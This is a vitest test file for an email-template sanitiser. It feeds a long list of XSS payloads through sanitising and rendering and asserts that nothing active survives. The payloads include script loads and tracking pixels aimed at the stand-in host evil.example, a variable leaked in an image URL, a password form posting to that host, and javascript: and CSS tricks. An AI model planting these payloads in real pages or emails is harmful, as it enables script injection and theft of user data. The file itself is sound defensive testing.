import { refuseMarkup } from '@setter/html/markup-limits';
import { superlinear } from '@setter/testing/doubling';
import { xssVectors } from '@setter/testing/xss-vectors';
import { describe, expect, it } from 'vitest';
import { fromOwnWords, problemsOf } from './own-template.ts';
import { render } from './render.ts';
import { sanitizeTemplate } from './sanitize-template.ts';
import type { Template } from './template.ts';
import { textOfHtml } from './template-text.ts';
import { mails } from './mails.ts';

const brand = {
  name: 'Setter',
  phone: '02 5550 1234',
  email: 'hello@setter.example',
  address: 'Surry Hills NSW 2010',
  portalLink: 'https://setter.example/client-portal',
  settingsLinks: {
    admin: 'https://setter.example/admin-portal?section=settings',
    client: 'https://setter.example/client-portal?settings=open',
  },
};
const builtIn: Template = mails['appointment-available'];
const words = {
  displayName: 'Ours',
  description: '',
  category: 'notification',
  subject: 'New: {{appointmentTitle}}',
  textContent: null,
} as const;
const own = (htmlContent: string) =>
  fromOwnWords({ ...words, htmlContent }, sanitizeTemplate(htmlContent), builtIn);

/** Known ways to run a script, to load from elsewhere or to leave the frame, also by variables. */
const attacks = [
  ...xssVectors,
  '<ScRiPt/src=//evil.example/x.js></sCrIpT>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  '<img src="http://evil.example/pixel">',
  '<img src="https://evil.example/{{firstName}}">',
  '<svg><script>alert(1)</script></svg>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="{{firstName}}">x</a>',
  '<a href="{{firstName}}:{{portalLink}}">x</a>',
  '<a href="javascript:{{portalLink}}">x</a>',
  '<a href="{{#firstName}}javascript:{{/firstName}}x">x</a>',
  '<a href="https://x.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<p title="{{#firstName}}">x{{/firstName}} "onmouseover="alert(1)" </p>',
  '<p title="{{^firstName}}">x{{/firstName}} "onmouseover="alert(1)" </p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background:url(https://evil.example/pixel)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="background:\\75rl(https://evil.example)">x</p>',
  '<p style="position:fixed;top:0;left:0">x</p>',
  '<p style="color:{{firstName}}">x</p>',
  '<p style="-moz-binding:url(x)">x</p>',
  '<style>@import "https://evil.example";</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>Go</button></form>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.example">x</td></tr></table>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<p id=x name=y class=z>x</p>',
  '<b {{firstName}}>x</b>',
];

const allowedTag =
  /^<\/?(a|b|blockquote|br|caption|center|code|div|em|h[1-4]|hr|i|img|li|ol|p|pre|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)(\s|\/?>)/;
const attributesOf = (tag: string): readonly (readonly [string, string])[] =>
  [...tag.matchAll(/\s([^\s=>]+)="([^"]*)"/g)].map(([, name, value]) => [name!, value!] as const);

const expectSafe = (html: string) => {
  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
    expect(tag).toMatch(allowedTag);
    // Nothing but quoted attributes between the name and the end.
    expect(tag.replace(/^<\/?\w+/, '').replaceAll(/\s[^\s=>"]+="[^"]*"/g, '')).toMatch(/^\s*\/?>$/);
    for (const [name, value] of attributesOf(tag)) {
      expect(name).not.toMatch(/^on|background$|^(id|class|name|srcdoc|action|formaction)$/i);
      if (name === 'href') expect(value).toMatch(/^(https:\/\/|mailto:|tel:|\{\{\s*\w*Link\s*\}\}$)/);
      if (name === 'src') expect(value).toMatch(/^https:\/\/[^{}]*$/);
      if (name === 'style') expect(value).not.toMatch(/url|expression|import|position|binding|[\\{}]/i);
    }
  }
};

describe('sanitising a template', () => {
  it.each(attacks)('leaves nothing active of %s', (html) => {
    expectSafe(sanitizeTemplate(html));
  });

  it.each(attacks)('nor once it is rendered, with a value and without: %s', (html) => {
    const template = own(html);
    if (problemsOf(template) === 'broken') return;
    const evil = '"><img src=x onerror=alert(1)> javascript:alert(1)';
    for (const firstName of [evil, '']) {
      const { html: rendered } = render(template, { ...template.sample, firstName }, brand);
      const [, card] = /class="card"[^>]*>\n([\s\S]*)\n<\/td><\/tr>\n<tr>/.exec(rendered)!;
      expectSafe(card!);
    }
  });

  it('changes nothing that it has sanitised before', () => {
    for (const html of attacks) {
      const once = sanitizeTemplate(html);
      expect(sanitizeTemplate(once)).toBe(once);
    }
  });

  it.each(Object.entries<Template>(mails))('keeps all that the built-in %s is made of', (_name, template) => {
    const tidy = (html: string) => html.replaceAll(';"', '"').replaceAll(/\s*\/>/g, '>');
    expect(tidy(sanitizeTemplate(template.html))).toBe(tidy(template.html));
  });
});

describe("an owner's template", () => {
  it('has a text part that is made from its HTML, with its links', () => {
    const template = own('<h1>Hi {{firstName}}</h1><p>A &amp; B<br><a href="{{portalLink}}">Open</a></p>');
    expect(template.text).toBe('Hi {{firstName}}\nA & B\nOpen: {{portalLink}}\n');
    expect(problemsOf(template)).toEqual([]);
    expect(render(template, template.sample, brand).text).toContain(`Open: ${brand.portalLink}`);
  });

  it('is told which variables are unknown, missing or raw, and where', () => {
    expect(problemsOf(own('{{password}}'))).toEqual(
      expect.arrayContaining([
        { kind: 'unknown', part: 'html', variable: 'password' },
        { kind: 'missing', part: 'html', variable: 'portalLink' },
      ]),
    );
    expect(problemsOf(own('{{{firstName}}}'))).toContainEqual({
      kind: 'raw',
      part: 'html',
      variable: 'firstName',
    });
    expect(problemsOf(own('{{#firstName}}'))).toBe('broken');
  });

  it('keeps the category of what it stands in for', () => {
    const reset: Template = mails['password-reset'];
    const given = { ...words, category: 'marketing', htmlContent: 'x' } as const;
    expect(fromOwnWords(given, 'x', reset)).toMatchObject({
      category: 'system',
      hasToken: true,
    });
  });
});

it.each([
  '<div>',
  '<a href="',
  '<a href="x">',
  '<p ',
  '<!--',
  '<p style="',
  '{{a}}',
  '{{#a}}',
  '<b style="color:red">x</b>',
])('takes a time that grows with the length of the template: %s', (seed) => {
  const parse = (html: string) => refuseMarkup(html) ?? problemsOf(own(html));
  expect(superlinear(parse, [seed])).toEqual([]);
});

it('makes text of tables and lists line by line', () => {
  expect(textOfHtml('<table><tr><td>One</td></tr><tr><td>Two</td></tr></table><ul><li>&lt;3</li></ul>')).toBe(
    'One\nTwo\n\n<3\n',
  );
});
